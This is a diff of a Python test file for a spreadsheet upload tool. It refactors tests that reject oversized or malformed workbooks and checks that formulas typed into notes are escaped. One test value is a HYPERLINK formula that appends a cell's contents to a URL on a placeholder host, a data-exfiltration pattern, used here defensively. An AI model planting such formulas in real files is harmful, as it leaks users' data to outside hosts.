@@ -10,24 +10,25 @@ import pytest
 import hostile_files
 from loaders import updates
 from loaders.project import load_project
-from test_imports import CORPUS, ROOT, data_fingerprint, project_copy  # noqa: F401 - a fixture
+from test_imports import CORPUS, ROOT, data_fingerprint
 
 MEMORY_CAP = 1024 * 1024 * 1024  # the whole CLI (pandas, pyarrow, openpyxl) peaks near 200 MB on a good file
 TIME_CAP_S = 90                  # a few seconds when idle; generous for a loaded 2-core machine
 
+EXPANDED = "超过上限 30 MB：可能含大量空行、空列或超长单元格；请只保留需要的行列，另存后再上传"
+TOO_MANY_ROWS = "行数超过上限 5000 行：请只保留需要更新的行（空行也要删除）"
 BOMBS = {
     "million-empty-rows.xlsx": (hostile_files.million_empty_rows,
-                                "million-empty-rows.xlsx: 工作簿解压后有 33 MB（10 个部件），超过上限 30 MB：可能含大量空行、空列或超长单元格；"
-                                "请只保留需要的行列，另存后再上传"),
-    "far-away-cell.xlsx": (hostile_files.far_away_cell,
-                           "far-away-cell.xlsx[2023-06]:5001: 行数超过上限 5000 行：请只保留需要更新的行（空行也要删除）"),
+                                f"million-empty-rows.xlsx: 工作簿解压后有 33 MB（10 个部件），{EXPANDED}"),
+    "far-away-cell.xlsx": (hostile_files.far_away_cell, f"far-away-cell.xlsx[2023-06]:5001: {TOO_MANY_ROWS}"),
     "wide-row.xlsx": (hostile_files.wide_row, "wide-row.xlsx[2023-06]:3: 列数超过上限 60 列：请删去多余的列"),
     "huge-cell.xlsx": (hostile_files.huge_shared_string,
-                       "huge-cell.xlsx: 工作簿解压后有 300 MB（11 个部件），超过上限 30 MB：可能含大量空行、空列或超长单元格；"
-                       "请只保留需要的行列，另存后再上传"),
-    "long-note.xlsx": (hostile_files.long_inline_note, "long-note.xlsx[2023-06]:2: 单元格 D2 有 200000 个字符，超过上限 2000 个：请缩短"),
-    "entities.xlsx": (hostile_files.entity_bomb, "entities.xlsx: Excel 文件已损坏或不完整，请在 Excel 中重新保存后再上传（ValueError）"),
-    "million-rows.csv": (hostile_files.million_row_csv, "million-rows.csv:5001: 行数超过上限 5000 行：请只保留需要更新的行（空行也要删除）"),
+                       f"huge-cell.xlsx: 工作簿解压后有 300 MB（11 个部件），{EXPANDED}"),
+    "long-note.xlsx": (hostile_files.long_inline_note,
+                       "long-note.xlsx[2023-06]:2: 单元格 D2 有 200000 个字符，超过上限 2000 个：请缩短"),
+    "entities.xlsx": (hostile_files.entity_bomb,
+                      "entities.xlsx: Excel 文件已损坏或不完整，请在 Excel 中重新保存后再上传（ValueError）"),
+    "million-rows.csv": (hostile_files.million_row_csv, f"million-rows.csv:5001: {TOO_MANY_ROWS}"),
 }
 
 
@@ -59,7 +60,8 @@ def test_the_projects_own_files_are_read_whatever_the_size_of_a_field(project_co
     assert project.ok, [p.format() for p in project.problems]
     assert [f.note for f in project.facts if f.period == "2023-06"][0] == note
     update = updates.read_update("ok-utf8.csv", (CORPUS / "ok-utf8.csv").read_bytes(), project_copy)
-    assert update.ok and [(c.column, c.old, c.new) for c in update.changes if c.kind == "changed"] == [("note", note, "上半年")]
+    changed = [(c.column, c.old, c.new) for c in update.changes if c.kind == "changed"]
+    assert update.ok and changed == [("note", note, "上半年")]
 
 
 INJECTED = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
@@ -72,18 +74,20 @@ def test_a_formula_typed_as_a_note_comes_back_in_the_templates_as_text_and_uploa
     from loaders.template import self_template_csv, self_template_xlsx
 
     (project_copy / "data/assessments/food-safety-2023-self.csv").write_text(
-        f'point,score,status,note,updated_by,updated_at\nP01,2,in_progress,"{INJECTED.replace(chr(34), chr(34) * 2)}",,\n',
+        "point,score,status,note,updated_by,updated_at\n"
+        f'P01,2,in_progress,"{INJECTED.replace(chr(34), chr(34) * 2)}",,\n',
         encoding="utf-8")
     project = load_project(project_copy)
     assert project.ok, [p.format() for p in project.problems]
     workbook = self_template_xlsx(project, "food-safety-2023")
-    cell = next(row[7] for row in openpyxl.load_workbook(io.BytesIO(workbook))["自评"].iter_rows() if row[0].value == "P01")
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook))["自评"]
+    cell = next(row[7] for row in sheet.iter_rows() if row[0].value == "P01")
     assert cell.data_type == "s" and cell.value == "'" + INJECTED  # text, never a formula Excel would run
     text = self_template_csv(project, "food-safety-2023").decode("utf-8-sig")
     assert "'" + INJECTED.replace('"', '""') in text and f",{INJECTED[:10]}" not in text.replace('"', "")
     for name, data in (("自评模板.xlsx", workbook), ("自评模板.csv", text.encode("utf-8"))):
         update = updates.read_update(name, data, project_copy, project)
-        assert update.ok and [(c.column, c.old, c.new) for c in update.changes if c.kind == "changed"] == [("note", note, "上半年")], [p.format() for p in update.problems]
+        assert update.ok and update.counts()["changed"] == 0, [p.format() for p in update.problems]
         assert next(e.note for e in update.entries if e.point == "P01") == INJECTED
 
 
